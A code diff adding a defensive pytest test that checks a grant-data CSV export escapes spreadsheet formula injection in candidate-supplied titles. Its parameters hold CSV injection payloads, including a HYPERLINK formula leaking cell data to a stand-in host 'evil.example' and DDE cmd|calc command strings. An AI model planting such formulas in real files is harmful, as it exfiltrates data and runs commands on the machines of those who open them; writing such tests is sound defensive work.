@@ -229,3 +229,54 @@ async def test_a_read_only_transaction_never_holds_sqlite_write_lock(
                     assert not writer_blocked
                     await writer.rollback()
             await reader.rollback()
+
+
+class HostileBuilder(Builder):
+    """Files every dossier of the data set under a title a hostile candidate chose."""
+
+    def __init__(self, titles: dict[str, str], *args: Any) -> None:
+        super().__init__(*args)
+        self.titles = titles
+
+    async def file(self, who: Any, *, title: str, **kwargs: Any) -> Any:
+        return await super().file(who, title=self.titles.get(title, title), **kwargs)
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+SUM(1+1)*cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"),
+        ("\t=1+1", "\r=1+1"),
+    ],
+)
+async def test_csv_text_cells_never_start_a_formula(
+    client: AsyncClient,
+    session: AsyncSession,
+    headers: Any,
+    clock_at: Any,
+    tmp_path: Path,
+    first: str,
+    second: str,
+) -> None:
+    """DOMAIN.md §5 (issue 23): a candidate's title starting with =, +, -, @, tab or CR
+    reaches the `objet` cell behind a `'`; the file still validates against the SCDL schema
+    (amounts stay numbers) and the JSON keeps the title as the candidate wrote it."""
+    titles = {"Prise de rendez-vous en ligne": first, "Formation des agents au numérique": second}
+    await build(HostileBuilder(titles, client, session, headers, clock_at))
+    response = await client.get(CSV_URL)
+    assert response.status_code == 200, response.text
+
+    path = tmp_path / "subventions.csv"
+    path.write_bytes(response.content)
+    schema = Schema.from_descriptor(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
+    report = Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+
+    rows = rows_of(response.content.decode("utf-8"))
+    assert [r["objet"] for r in rows] == ["'" + " ".join(t.split()) for t in (first, second)]
+    for row in rows:
+        assert not row["objet"].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert [r["montant"] for r in rows] == ["10000.00", "8000.00"]
+    records = (await client.get(JSON_URL)).json()
+    assert [r["objet"] for r in records] == [" ".join(t.split()) for t in (first, second)]
